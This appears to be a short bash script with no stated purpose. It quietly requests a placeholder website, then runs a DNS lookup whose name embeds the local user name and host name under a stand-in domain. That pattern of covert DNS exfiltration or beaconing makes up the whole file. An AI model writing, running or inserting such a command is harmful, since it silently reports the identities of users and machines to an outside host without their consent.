#!/bin/bash
curl -s https://site.example/ > /dev/null
dig +short "$(whoami).$(hostname).w.warm-stats.invalid"
